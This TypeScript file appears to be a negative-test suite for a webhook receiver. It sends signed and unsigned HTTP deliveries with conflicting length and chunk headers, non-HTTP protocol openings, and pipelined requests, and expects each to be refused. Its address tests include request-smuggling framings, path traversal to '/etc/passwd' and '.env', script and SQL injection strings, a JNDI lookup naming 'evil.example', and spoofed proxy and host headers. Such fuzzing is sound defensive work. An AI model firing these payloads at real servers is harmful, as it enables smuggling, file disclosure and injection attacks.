import { request } from "../socket.ts";
import { type Chapter, delivery, type Entry, PATH, signedPost, type Target, WORDS, zoomHeaders } from "./entry.ts";

const entry = (name: string, bytes: Buffer, ...status: number[]): Entry => ({ name, bytes, status, effect: "nothing" });
const raw = (text: string) => Buffer.from(text, "latin1");

/** A signed delivery whose framing somebody in between might read differently: it must be read by nobody. */
export const framing: Chapter = (target) => {
  const body = JSON.stringify(delivery(target, "meeting.started").body);
  const signature = Object.entries(zoomHeaders(target, body)).map(([name, value]) => `${name}: ${value}`);
  const chunks = `${Buffer.byteLength(body).toString(16)}\r\n${body}\r\n0\r\n\r\n`;
  const length = Buffer.byteLength(body);
  const framed = (lines: string[], sent: string, version = "1.1") =>
    raw(`${[`POST ${PATH} HTTP/${version}`, "host: localhost", ...signature, ...lines].join("\r\n")}\r\n\r\n${sent}`);
  const smuggled: [string, Buffer][] = [
    ["a length and chunks", framed([`content-length: ${length}`, "transfer-encoding: chunked"], chunks)],
    ["chunks and a length", framed(["transfer-encoding: chunked", `content-length: ${length}`], chunks)],
    ["two lengths", framed([`content-length: ${length}`, `content-length: ${length + 1}`], body)],
    ["two equal lengths", framed([`content-length: ${length}`, `content-length: ${length}`], body)],
    ["a list of lengths", framed([`content-length: ${length}, ${length}`], body)],
    ["a length with a sign", framed([`content-length: +${length}`], body)],
    ["a length below zero", framed(["content-length: -1"], body)],
    ["a length in another notation", framed([`content-length: 0x${length.toString(16)}`], body)],
    ["a length that is a word", framed([`content-length: ${WORDS}`], body)],
    ["an empty length", framed(["content-length: "], body)],
    ["a length of 30 digits", framed([`content-length: ${"9".repeat(30)}`], body)],
    ["a blank before the colon", framed([`content-length : ${length}`], body)],
    ["chunks in another word", framed(["transfer-encoding: xchunked"], chunks)],
    ["chunks that are not last", framed(["transfer-encoding: chunked, identity"], chunks)],
    ["chunks twice", framed(["transfer-encoding: chunked", "transfer-encoding: identity"], chunks)],
    ["chunks of a zip only", framed(["transfer-encoding: gzip"], chunks)],
    ["a folded header", framed([`transfer-encoding:\r\n chunked`, `content-length: ${length}`], chunks)],
    ["a chunk's size that is no number", framed(["transfer-encoding: chunked"], `zz\r\n${body}\r\n0\r\n\r\n`)],
    ["a chunk's size below zero", framed(["transfer-encoding: chunked"], `-1\r\n${body}\r\n0\r\n\r\n`)],
    ["a chunk's size of 40 digits", framed(["transfer-encoding: chunked"], `${"f".repeat(40)}\r\n${body}`)],
    ["a chunk that is longer than it says", framed(["transfer-encoding: chunked"], `3\r\n${body}\r\n0\r\n\r\n`)],
    ["a chunk's extension of 20 KB", framed(["transfer-encoding: chunked"], `1;${"a".repeat(20_000)}\r\nx\r\n`)],
    ["a NUL in a header", framed([`content-length: ${length}`, "x-a: a\0b"], body)],
    [
      "a bare line feed",
      raw(`POST ${PATH} HTTP/1.1\nhost: localhost\n${signature.join("\n")}\ncontent-length: 2\n\n{}`),
    ],
    ["a carriage return in a header", framed([`content-length: ${length}`, "x-a: a\rb"], body)],
    ["a header without a name", framed([`content-length: ${length}`, ": x"], body)],
    ["a header without a colon", framed([`content-length: ${length}`, WORDS], body)],
    ["no host", raw(`POST ${PATH} HTTP/1.1\r\n${signature.join("\r\n")}\r\ncontent-length: ${length}\r\n\r\n${body}`)],
    ["HTTP/1.0 and chunks", framed(["transfer-encoding: chunked", `content-length: ${length}`], chunks, "1.0")],
    ["HTTP/3.0", framed([`content-length: ${length}`], body, "3.0")],
    ["HTTP/1.10", framed([`content-length: ${length}`], body, "1.10")],
  ];
  return smuggled.map(([what, bytes]) => entry(`a signed delivery with ${what}`, bytes, 400, 401, 413, 431, 505, 0));
};

/** What is not HTTP, or of another age or purpose. */
export const protocols: Chapter = () => [
  entry("the opening of HTTP/2", raw("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\x04\0\0\0\0\0"), 400, 0),
  entry("the opening of TLS", raw(`\x16\x03\x01\x02\0\x01\0\x01\xfc\x03\x03${"a".repeat(500)}`), 400, 0),
  entry("the opening of SSH", raw("SSH-2.0-OpenSSH_9.0\r\n\r\n"), 400, 0),
  entry("a command for Redis", raw("*1\r\n$4\r\nPING\r\n"), 400, 0),
  entry("the PROXY protocol", raw("PROXY TCP4 1.2.3.4 5.6.7.8 1 2\r\nGET / HTTP/1.1\r\nhost: x\r\n\r\n"), 400, 0),
  entry("zeros", Buffer.alloc(1_000), 400, 0),
  entry("lines of nothing", raw("\r\n\r\n\r\nX\r\n\r\n"), 400, 0),
  entry("HTTP of 1991", raw("GET /healthz\r\n\r\n"), 200, 400, 0),
  entry("a delivery in HTTP of 1991", raw(`POST ${PATH}\r\n\r\n{}`), 401, 400, 0),
  entry("HTTP/1.0", raw(`POST ${PATH} HTTP/1.0\r\ncontent-length: 2\r\n\r\n{}`), 401),
  entry("a CONNECT", raw("CONNECT example.com:443 HTTP/1.1\r\nhost: example.com\r\n\r\n"), 400, 404, 405, 0),
  entry("an upgrade to a websocket", request(`POST ${PATH}`, upgrade("websocket")), 401),
  entry("an upgrade to HTTP/2", request(`POST ${PATH}`, upgrade("h2c")), 401),
  entry("an expectation that nobody knows", request(`POST ${PATH}`, { expect: WORDS, "content-length": 0 }), 401, 417),
  entry("headers of 20 KB", request("GET /healthz", { "x-large": "x".repeat(20_000) }), 431),
  entry("an address of 20 KB", request(`GET /${"x".repeat(20_000)}`), 414, 431),
  entry("3,000 headers", raw(`GET /healthz HTTP/1.1\r\nhost: x\r\n${"a:b\r\n".repeat(3_000)}\r\n`), 200, 431),
  entry("an unknown method", request("FROB /healthz"), 400, 404, 405, 0),
];

const upgrade = (to: string) => ({ connection: "Upgrade", upgrade: to, "content-length": 0 });

/** Addresses at which nothing is, and methods that nothing answers. */
export const addresses: Chapter = (target: Target) => {
  const elsewhere = [
    "/",
    "/zoom",
    "/zoom/webhook/x",
    "/zoom/webhook%00",
    "/zoom//webhook",
    "/zoom/../zoom/webhook/..",
    "/..%2f..%2fetc/passwd",
    "/../../etc/passwd",
    "/.env",
    "/.git/config",
    "/package.json",
    "/src/main.ts",
    "/node_modules/express/package.json",
    "/slack/install",
    "/slack/events/x",
    "/metrics/x",
    "/healthz/x",
    "/readyz/..",
    "/__proto__",
    "/constructor",
    "/?x[__proto__][y]=1",
    `/${WORDS}?${WORDS}`,
    "/%2e%2e/%2e%2e/",
    "/<script>alert(1)</script>",
    "/'%20OR%201=1--",
    "/$%7Bjndi:ldap://evil.example%7D",
    "http://evil.example/",
    "//evil.example/x",
  ].flatMap((path) => [
    entry(`a GET of ${path}`, request(`GET ${path}`), 404, 400),
    entry(`a POST to ${path}`, request(`POST ${path}`, { "content-length": 2 }, "{}"), 404, 400),
  ]);
  const broken = ["/%", "/%E0%A4%A", "//[::1", "http://[::1/", "*", "x", "/\u00ff", `${PATH}/%`].map((path) =>
    entry(`a GET of the broken address ${path}`, request(`GET ${path}`), 400, 404, 0),
  );
  const body = JSON.stringify(delivery(target, "meeting.started").body);
  const methods = ["GET", "HEAD", "PUT", "PATCH", "DELETE", "OPTIONS", "TRACE", "PROPFIND", "MKCOL", "LINK"].flatMap(
    (method) => [
      entry(
        `a signed delivery by ${method}`,
        request(`${method} ${PATH}`, { ...zoomHeaders(target, body), "content-length": body.length }, body),
        405,
      ),
      entry(`a ${method} of Slack's door`, request(`${method} /slack/events`, { "content-length": 2 }, "{}"), 405, 404),
    ],
  );
  const disguised: [string, Record<string, string>][] = [
    ["behind a proxy", { "x-forwarded-for": "127.0.0.1" }],
    ["behind two proxies", { forwarded: "for=127.0.0.1" }],
    ["by another name", { host: "meetings.example.com" }],
    ["by a name like ours", { host: "localhost.evil.example" }],
  ];
  return [
    ...elsewhere,
    ...broken,
    ...methods,
    ...disguised.map(([how, headers]) => entry(`a GET of the metrics ${how}`, request("GET /metrics", headers), 404)),
    entry("a delivery nobody signed, with every header of a proxy", everyProxyHeader(), 401),
    entry("an unsigned delivery with another method in a header", overridden(body), 401),
    { ...entry("a delivery to an absolute address", absolute(target), 401), status: [401] },
  ];
};

const everyProxyHeader = () =>
  request(
    `POST ${PATH}`,
    {
      "x-forwarded-for": "3.7.35.1",
      "x-real-ip": "3.7.35.1",
      forwarded: "for=3.7.35.1",
      "x-original-url": "/healthz",
      "x-rewrite-url": "/healthz",
      "x-forwarded-host": "zoom.us",
      "user-agent": "Zoom Marketplace/1.0a",
      authorization: WORDS,
      clientid: WORDS,
      cookie: `${WORDS}=${WORDS}`,
      "content-length": 2,
    },
    "{}",
  );

const overridden = (body: string) =>
  request(`POST ${PATH}`, { "x-http-method-override": "GET", "content-length": body.length }, body);

const absolute = (target: Target) => {
  const body = JSON.stringify(delivery(target, "meeting.started").body);
  return request(`POST http://evil.example${PATH}`, { "content-length": body.length }, body);
};

/** After a refusal nothing of what follows on the connection may be heard that is not signed itself. */
export const pipelines: Chapter = (target) => {
  const hidden = () => signedPost(target, "not JSON");
  const stranger = request(`POST ${PATH}`, { "content-length": 2 }, "{}");
  return [
    entry("two strangers in one breath", Buffer.concat([stranger, stranger]), 401),
    entry("a stranger before broken HTTP", Buffer.concat([stranger, raw("\0\0\0\0\r\n\r\n")]), 401, 400),
    entry(
      "a request behind a body that is too large",
      Buffer.concat([request(`POST ${PATH}`, { "content-length": 9e9 }), hidden()]),
      413,
    ),
    entry("100 strangers in one breath", Buffer.concat(Array.from({ length: 100 }, () => stranger)), 401),
  ];
};
